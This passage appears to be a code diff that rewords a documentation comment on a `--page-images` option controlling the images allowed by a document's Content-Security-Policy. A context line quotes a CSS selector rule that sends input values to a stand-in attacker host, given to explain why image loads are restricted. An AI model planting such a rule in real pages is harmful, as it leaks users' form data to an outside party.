@@ -1,5 +1,5 @@
 /// The images of other hosts that a document in its frame may load. The option `--page-images`
-/// chooses it, and ``DocumentPage`` writes it into the `Content-Security-Policy` of the document.
+/// chooses a policy. ``DocumentPage`` writes it into the `Content-Security-Policy` of the document.
 ///
 /// An image is a request, so a page that loads images can reveal its content: a style such as
 /// `input[value^="a"] { background: url(https://evil.test/a) }` requests a different address for
